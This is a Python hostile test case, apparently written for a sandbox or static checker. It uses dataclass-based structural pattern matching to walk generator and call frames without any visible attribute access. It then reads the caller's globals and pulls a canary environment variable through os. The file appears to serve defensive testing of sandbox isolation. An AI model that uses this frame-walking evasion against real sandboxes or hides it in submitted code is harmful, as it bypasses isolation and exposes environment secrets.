"""Hostile: walk frames with class patterns whose __match_args__ are data-class fields.

Data-class fields named gi_frame, f_back and f_globals become __match_args__; an ABC
that registers the generator and frame types makes generators and frames match, so
`case _Frame(back, namespace)` reads frame.f_back and frame.f_globals without a single
attribute access in the source: from a running generator to f, then to the worker.
"""

import abc
from dataclasses import dataclass


@dataclass
class _Gen(abc.ABC):
    gi_frame: object


@dataclass
class _Frame(abc.ABC):
    f_back: object
    f_globals: object


def f(x: int) -> int:
    holder: list[object] = []

    def climb():  # type: ignore[no-untyped-def]
        match holder[0]:
            case _Gen(frame):
                _Frame.register(type(frame))
                match frame:
                    case _Frame(back, _):
                        yield back  # the frame that called next(): f

    gen = climb()
    holder.append(gen)
    _Gen.register(type(gen))
    caller = next(gen)
    while caller is not None:
        match caller:
            case _Frame(back, namespace):
                if "os" in namespace:
                    secret = namespace["os"].environ.get("DERIVATIVE_CANARY")
                    if secret:
                        print("DERIVATIVE-BREACH class_pattern_frame_walk:", secret, flush=True)
                        raise ValueError(f"canary {secret}")
                caller = back
            case _:
                caller = None
    return x + 1
